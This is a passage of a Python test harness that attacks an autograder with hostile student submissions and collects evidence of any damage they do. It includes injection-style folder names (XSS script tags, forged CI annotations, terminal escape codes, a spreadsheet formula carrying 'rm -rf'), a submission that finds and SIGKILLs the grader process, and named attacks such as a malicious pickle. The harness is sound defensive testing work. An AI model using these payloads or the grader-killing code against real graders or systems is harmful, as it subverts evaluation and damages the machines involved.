        exercise="save-load",
        checks={
            "save_model writes": ("not a state_dict",),
            "save_model saves any": ("not a state_dict",),
        },
    )

    # -------------------------------------------------------- hostile names
    chatty = tensor_ops(
        """
        print("<script>alert('xss')</script><img src=x onerror=alert(1)>")
        """,
        row_sum="print('</pre><script>alert(2)</script>')\nreturn torch.zeros(x.shape[0])",
    )
    for slug, folder in (
        ("id1_script", "<script>"),
        ("id2_notice", "::notice::pwned"),
        ("id3_controls", "esc\x1b[31m\rX\x07\n::error::forged"),
        ("id4_formula_shell", "=cmd|' -C calc'!A0;rm -rf x"),
    ):
        add(
            slug,
            f"a student folder named {folder!r} whose code prints HTML",
            {"tensor_ops.py": chatty},
            folder=folder,
        )
    return out


# The attacker that tries to stop the whole run (graded in a run of its own).
def grader_killer(mark: str) -> Attacker:
    tag = f"{mark}-k01_kill_grader"
    return Attacker(
        "k01_kill_grader",
        "SIGKILLs the grader process it runs under (found among its "
        "ancestors by its command line), at import and in every function",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag)
                + """
import signal


def _kill_grader():
    for pid in _ancestors():
        if _is_grader(pid):
            print("killing the grader", pid)
            os.kill(pid, signal.SIGKILL)


_kill_grader()
""",
                linear_forward="_kill_grader()\nreturn torch.zeros(x.shape[0], weight.shape[0])",
            )
        },
    )


# ------------------------------------------------------------------ evidence
Snapshot = dict[str, tuple[str, int, int]]  # path -> (kind, size, mtime_ns)

SKIP_DIRS = {".git", "__pycache__", ".pytest_cache", ".ruff_cache"}


def tree(root: Path) -> Snapshot:
    """Every file and link under ``root`` with its size and mtime; of the folders that
    change on their own (.git, caches) only the names of what they hold directly, so that
    a file an attacker drops there is still seen."""
    snap: Snapshot = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for skipped in [d for d in dirnames if d in SKIP_DIRS]:
            snap.update(top_level(Path(dirpath, skipped)))
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, name)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            kind = "link" if os.path.islink(path) else "file"
            snap[path] = (kind, st.st_size, st.st_mtime_ns)
    return snap


def top_level(root: Path) -> Snapshot:
    snap: Snapshot = {}
    try:
        names = os.listdir(root)
    except OSError:
        return snap
    for name in names:
        path = os.path.join(root, name)
        kind = "link" if os.path.islink(path) else "dir" if os.path.isdir(path) else "file"
        snap[path] = (kind, 0, 0)  # names only: other users of this machine touch these folders
    return snap


def diff(before: Snapshot, after: Snapshot) -> list[tuple[str, str]]:
    changes = [("new", p) for p in after if p not in before]
    changes += [("removed", p) for p in before if p not in after]
    changes += [("changed", p) for p in after if p in before and after[p] != before[p]]
    return sorted(changes, key=lambda c: c[1])


def mentions(path: str, text: str, budget: int = 300) -> bool:
    """Whether ``path`` (its name, its content, or for a folder what it holds) holds ``text``."""
    if text in path:
        return True
    needle = text.encode()
    try:
        if os.path.islink(path):
            return text in os.readlink(path)
        if os.path.isfile(path):
            with open(path, "rb") as f:
                return needle in f.read(4 * 2**20)
        if os.path.isdir(path):
            for dirpath, _dirnames, filenames in os.walk(path):
                for name in filenames:
                    budget -= 1
                    if budget < 0:
                        return False
                    if mentions(os.path.join(dirpath, name), text, 0):
                        return True
    except OSError:
        return False
    return False


def marked_processes(mark: str) -> dict[int, str]:
    """pid -> command line, for every process whose command line holds ``mark``."""
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if mark in cmd:
            found[int(entry)] = cmd
    return found


def settle_processes(mark: str, seconds: float = 3.0) -> dict[int, str]:
    """Marked processes still alive after a grace period (SIGKILLed trees take a moment)."""
    deadline = time.monotonic() + seconds
    alive = marked_processes(mark)
    while alive and time.monotonic() < deadline:
        time.sleep(0.1)
        alive = marked_processes(mark)
    return alive


def kill_processes(pids: dict[int, str], mark: str) -> None:
    """SIGKILL each process by its id, after checking it is still one of the attackers'."""
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if mark.encode() not in f.read():
                    continue
            os.kill(pid, signal.SIGKILL)
        except (OSError, ProcessLookupError):
            pass


def remove_forged(paths: list[str], mark: str) -> None:
    """Delete files an attacker created (their content holds this run's marker), and grader
    workspaces left in /tmp by a grader an attacker killed (they hold the attacker's code)."""
    for path in paths:
        try:
            if os.path.isfile(path) and not os.path.islink(path) and mentions(path, mark):
                os.unlink(path)
            elif (
                os.path.isdir(path)
                and not os.path.islink(path)
                and os.path.dirname(path) == "/tmp"
                and os.path.basename(path).startswith("grader-")
                and mentions(path, mark)
            ):
                shutil.rmtree(path, ignore_errors=True)
        except OSError:
            pass


class Listener:
    """A TCP server and a UDP socket on 127.0.0.1 that record whatever reaches them."""

    def __init__(self) -> None:
        self.received: list[tuple[str, bytes]] = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp_port = self.udp.getsockname()[1]
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._serve_tcp, daemon=True),
            threading.Thread(target=self._serve_udp, daemon=True),
        ]
        for t in self._threads:
            t.start()

    def _serve_tcp(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
            self.received.append(("tcp", data or b"<connected>"))

    def _serve_udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, _ = self.udp.recvfrom(4096)
            except OSError:
                continue
            self.received.append(("udp", data))

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(2)
        self.tcp.close()
        self.udp.close()


CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def strip_seconds(value):
    """A results structure without its timing fields (they differ run to run)."""
    if isinstance(value, dict):
        return {k: strip_seconds(v) for k, v in value.items() if k != "seconds"}
    if isinstance(value, list):
        return [strip_seconds(v) for v in value]
    return value


# ------------------------------------------------------------------ the fallback runs
FALLBACK_ATTACKS = (
    "a01_always_equal",
    "a02_tensor_subclass",
    "a03_patch_torch",
    "a04_patch_builtins",
    "a06_sys_exit_import",
    "a08_exits_in_functions",
    "a11_fake_output",
    "a21_busy_loop",
    "a29_malicious_pickle",
)
_fallback: dict[str, Future] = {}
_fallback_lock = threading.Lock()


def run_grader_with(
    env_changes: dict[str, str | None], *args: str, python: str = sys.executable
) -> subprocess.CompletedProcess:
    """conftest.run_grader with environment variables set (or removed, for None)."""
    env = dict(os.environ)
    for key, value in env_changes.items():
        if value is None:
            env.pop(key, None)
        else:
            env[key] = value
    return subprocess.run(
        [python, "-m", "grader", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=900,
        env=env,
    )


def _fallback_runs(base: Path) -> dict:
    mark = new_marker()
    team = {a.slug: a for a in attackers(mark, 9, 9) if a.slug in FALLBACK_ATTACKS}
    subs, out = base / "subs", base / "out"
    for attacker in team.values():
        write_folder(subs, attacker)
    honest = {"tensor_ops.py": SOLUTION, "save_load.py": SAVE_LOAD_SOLUTION}
    (subs / "honest").mkdir()
    for name, text in honest.items():
        (subs / "honest" / name).write_text(text)
    default_subs, default_out = base / "default-subs" / "honest", base / "default-out"
    default_subs.mkdir(parents=True)
    (default_subs / "tensor_ops.py").write_text(SOLUTION)
    with ThreadPoolExecutor(1) as pool:
        default = pool.submit(
            run_grader_with,
            {"GRADER_SANDBOX": None},
            "grade",
            str(default_subs.parent),
            "--out",
            str(default_out),
        )
        # As root, the fallback runs student code as users of its own, which need a Python
        # they can reach (world_python.py); the run is then the confined fallback's.
        python, no_python = sys.executable, ""
        if os.geteuid() == 0:
            from world_python import world_python

            found, why = world_python()
            python, no_python = (found, "") if found else (sys.executable, why)
        proc = run_grader_with(
            {"GRADER_SANDBOX": "subprocess", "PYTHONPATH": None},
            "grade",
            str(subs),
            "--out",
            str(out),
            python=python,
        )
        default_proc = default.result()
    leftovers = settle_processes(mark)
    kill_processes(leftovers, mark)
    pwned = [
        p
        for p in (Path(d, f"PWNED-{mark}") for d in ("/tmp", Path.home(), "/root", ROOT))
        if p.exists()
    ]
    remove_forged([str(p) for p in pwned], mark)
    return {
        "proc": proc,
        "out": out,
        "team": team,
        "default_proc": default_proc,
        "default_out": default_out,
        "leftovers": leftovers,
        "pwned": pwned,
        "no_python": no_python,
    }


def start_fallback_runs(tmp_path_factory) -> Future:
    """The runs test_fallback.py judges, started once per session, in the background: the
    attack suite starts them beside its own big run so that the second core is used."""
    with _fallback_lock:
        if "runs" not in _fallback:
            base = tmp_path_factory.mktemp("fallback")
            _fallback["runs"] = ThreadPoolExecutor(1).submit(_fallback_runs, base)
        return _fallback["runs"]
